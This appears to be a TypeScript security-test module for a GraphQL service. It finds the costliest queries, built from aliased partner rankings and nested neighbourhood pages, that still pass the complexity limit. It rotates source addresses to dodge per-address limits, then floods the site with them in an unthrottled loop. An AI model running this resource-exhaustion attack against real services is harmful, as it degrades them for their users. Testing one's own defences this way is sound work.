import { codeOf, post } from './client.ts'

/** Aliases and page sizes are tried downwards from here: security.md M4 used 30 and 100. */
const LARGEST = { aliases: 30, page: 100 }

/** The most expensive operations that one anonymous request may hold, for these firms. */
export async function largestAllowed(site: string, firmIds: readonly string[]): Promise<string[]> {
  const operations = [
    { write: (size: number) => rankings(firmIds, size), from: LARGEST.aliases },
    { write: neighbourhoods, from: LARGEST.page },
  ]
  return Promise.all(operations.map(({ write, from }) => trim(site, write, from)))
}

/** Many rankings of partners, each for another firm. */
function rankings(firmIds: readonly string[], size: number): string {
  const fields = Array.from({ length: size }, (_, index) => {
    const id = JSON.stringify(firmIds[index % firmIds.length])
    return `a${index}: recommendPartners(for: { firmId: ${id} }, first: 1) { totalCount }`
  })
  return `{ ${fields.join(' ')} }`
}

/** Many pictures of neighbourhoods. */
function neighbourhoods(size: number): string {
  return `{ firms(first: ${size}) { edges { node { neighbourhood(first: 100) { nodes { id } } } } } }`
}

async function trim(site: string, write: (size: number) => string, from: number): Promise<string> {
  for (let size = from; size > 0; size -= 1) {
    // Each from another address, so that trying costs the attackers nothing.
    const { code } = await post(site, write(size), `198.51.100.${size}`)
    if (code !== 'TOO_COMPLEX') return write(size)
  }
  throw new Error('Even the smallest operation is too complex.')
}

export interface AttackResult {
  /** Number of responses by code; OK if there was data. */
  answers: Record<string, number>
  /** Timeout for a response, in milliseconds. */
  longest: number
}

/** Sends operations in turn, one at a time, until `stopped`; continues at once whatever the response. */
export async function attack(
  site: string,
  address: string,
  operations: readonly string[],
  stopped: AbortSignal,
): Promise<AttackResult> {
  const answers: Record<string, number> = {}
  let longest = 0
  for (let sent = 0; !stopped.aborted; sent += 1) {
    const began = performance.now()
    const query = operations[sent % operations.length] ?? ''
    const code = await post(site, query, address).then(codeOf, String)
    longest = Math.max(longest, performance.now() - began)
    answers[code] = (answers[code] ?? 0) + 1
  }
  return { answers, longest: Math.round(longest) }
}
